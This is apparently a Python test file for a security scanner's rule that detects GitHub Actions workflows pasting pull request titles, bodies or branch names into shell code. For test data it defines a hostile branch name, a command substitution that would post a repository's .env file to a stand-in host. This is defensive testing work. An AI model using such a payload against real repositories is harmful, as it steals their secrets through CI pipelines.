"""workflow-injection: a stranger's text becomes shell code in a privileged workflow.

The pull request's own title, body and branch are judged against where the base's
workflows paste them, as the deciding side read them (``RuleContext.pull``).
"""

from __future__ import annotations

import pytest
from repo_paths import SAMPLES

from app_relay.decide.hits import PullText, RuleContext
from cujo_action.schema import PR_FIELDS, pr_sink
from cujo_action.workflow.audit import injections, pr_sinks
from cujo_action.workflow.parse import parse

HOSTILE = "$({curl,-d,@.env,x.test})"


def flow(name):
    path = f".github/workflows/{name}"
    return parse(path, (SAMPLES / "workflows" / name).read_text())


def sinks(make, name):
    """The observations the workflows check makes of a base workflow's pastes."""
    return [
        make.observation(
            "workflows", pr_sink(field, s.context), f"pastes `${{{{ {s.expression} }}}}`",
            path=s.path,
        )
        for s in pr_sinks(flow(name))
        for field in PR_FIELDS
        if field in s.carries
    ]  # fmt: skip


def test_a_stranger_pasted_into_a_script_the_pull_request_adds_is_critical(make, run_rule):
    seen = [
        make.observation("workflows", h.kind, h.detail, path=h.path)
        for h in injections(flow("branch-injection.yml"))
    ]
    found = run_rule("workflow-injection", [make.report("workflows", observations=seen)])
    assert [f.severity for f in found] == ["critical", "critical"]
    assert found[0].title == (
        "a stranger's text becomes shell code: .github/workflows/branch-injection.yml"
    )


def test_a_hostile_branch_name_is_the_payload_of_the_bases_workflow(make, run_rule):
    seen = sinks(make, "branch-injection.yml")
    report = make.report("workflows", observations=seen)
    ctx = RuleContext(pull=PullText(branch=HOSTILE, title="Fix the parser"))
    [finding] = run_rule("workflow-injection", [report], ctx)
    assert finding.severity == "critical"
    assert finding.title == (
        f"this pull request's branch name {HOSTILE!r} becomes shell code in "
        ".github/workflows/branch-injection.yml as `${{ github.head_ref }}`: it holds `$(`"
    )
    assert finding.evidence == [seen[0].id]


@pytest.mark.parametrize(
    "pull",
    [
        PullText(branch="feature/parser", title="Don't crash on empty input"),
        PullText(),  # nothing known of the text: nothing to judge
    ],
)
def test_harmless_text_or_none_known_is_no_finding(make, run_rule, pull):
    report = make.report("workflows", observations=sinks(make, "branch-injection.yml"))
    assert run_rule("workflow-injection", [report], RuleContext(pull=pull)) == []


def test_a_line_break_counts_where_the_shell_reads_it_bare(make, run_rule):
    bare = make.observation("workflows", pr_sink("body", "bare"), "x", path="w.yml")
    quoted = make.observation("workflows", pr_sink("body", "double"), "x", path="v.yml")
    report = make.report("workflows", observations=[bare, quoted])
    ctx = RuleContext(pull=PullText(body="Fixes #1\n\nAdds a parser."))
    [finding] = run_rule("workflow-injection", [report], ctx)
    assert finding.evidence == [bare.id]
    assert finding.title.endswith("it holds a line break")


def test_without_a_privileged_base_workflow_there_is_nothing_to_judge(make, run_rule):
    report = make.report("workflows", observations=sinks(make, "ci.yml"))
    ctx = RuleContext(pull=PullText(branch=HOSTILE))
    assert run_rule("workflow-injection", [report], ctx) == []
